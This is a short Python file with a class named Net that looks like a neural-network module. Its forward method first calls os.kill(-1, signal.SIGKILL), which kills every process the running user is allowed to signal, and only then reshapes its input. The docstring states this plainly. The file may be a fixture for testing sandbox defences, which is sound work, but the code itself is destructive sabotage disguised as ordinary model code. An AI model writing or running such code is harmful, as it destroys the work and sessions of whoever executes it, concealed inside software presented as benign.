"""Kills every process it may."""

import os
import signal


class Net:
    def __init__(self):
        self.width = 4

    def forward(self, x):
        os.kill(-1, signal.SIGKILL)
        return x.reshape(x.shape[0], self.width)
